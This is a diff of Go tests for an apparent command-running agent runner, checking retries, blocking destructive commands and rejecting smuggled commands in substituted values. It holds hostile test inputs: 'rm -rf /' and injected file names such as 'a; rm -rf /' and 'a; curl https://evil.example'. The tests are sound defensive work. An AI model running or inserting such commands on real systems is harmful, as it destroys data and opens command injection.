@@ -43,12 +43,12 @@ func TestACommandThatFailsIsTriedAgainAndThoughtAbout(t *testing.T) {
 	if got := drive(t, w, r, "s1"); got != string(step.OutcomeReason) || len(w.Requests()) != 2 || status(w, r, "s1") != "running step.command_failed" {
 		t.Fatalf("called again it ended %s: %s", got, status(w, r, "s1"))
 	}
-	reasoned(t, w, r, "ls /")
+	reasoned(t, w, r, "ls -a /nowhere")
 	upstream(w, map[string]string{"POST /command": `{"exit_code":0}`})
 	if got := drive(t, w, r, "s1"); got != "done" {
 		t.Errorf("ended %s: %s", got, status(w, r, "s1"))
 	}
-	same(t, "sent", sent(w), []string{`POST /command {"command":"ls /nowhere"}`, `POST /command {"command":"ls /nowhere"}`, `POST /command {"command":"ls /"}`})
+	same(t, "sent", sent(w), []string{`POST /command {"command":"ls /nowhere"}`, `POST /command {"command":"ls /nowhere"}`, `POST /command {"command":"ls -a /nowhere"}`})
 	keys := map[string]bool{}
 	for _, q := range w.Requests() {
 		keys[q.Header["Idempotency-Key"]] = true
@@ -65,7 +65,7 @@ func TestTheLastAttemptIsTheLast(t *testing.T) {
 		last    string
 	}{
 		"the same fails again":                 {4000, func(t *testing.T, w *lab.World, r plan.Run) { reasoned(t, w, r, "ls /nowhere") }, "ls /nowhere"},
-		"another fails too":                    {4000, func(t *testing.T, w *lab.World, r plan.Run) { reasoned(t, w, r, "ls /") }, "ls /"},
+		"another fails too":                    {4000, func(t *testing.T, w *lab.World, r plan.Run) { reasoned(t, w, r, "ls -a /nowhere") }, "ls -a /nowhere"},
 		"one that destroys is not sent":        {4000, func(t *testing.T, w *lab.World, r plan.Run) { reasoned(t, w, r, "rm -rf /") }, "ls /nowhere"},
 		"one that dares more is not sent":      {4000, func(t *testing.T, w *lab.World, r plan.Run) { reasoned(t, w, r, "touch /nowhere") }, "ls /nowhere"},
 		"nobody thinks in time":                {4000, func(_ *testing.T, w *lab.World, _ plan.Run) { w.Pass(11 * time.Minute) }, "ls /nowhere"},
@@ -135,6 +135,7 @@ func TestAnUndoIsTheCommandThatWasShown(t *testing.T) {
 		"it removes, as was shown":          {"rm ${s1.body.file}", "a.txt", "done"},
 		"it removes since it was resolved":  {"touch ${s1.body.file}", "a; rm -rf /", "error step.command_rises"},
 		"it removes nothing":                {"touch ${s1.body.file}", "a.txt", "done"},
+		"it runs more than was shown":       {"touch ${s1.body.file}", "a; curl https://evil.example", "error step.command_woven"},
 		"it removes what was written whole": {"rm a.txt", "", "done"},
 	} {
 		t.Run(name, func(t *testing.T) {
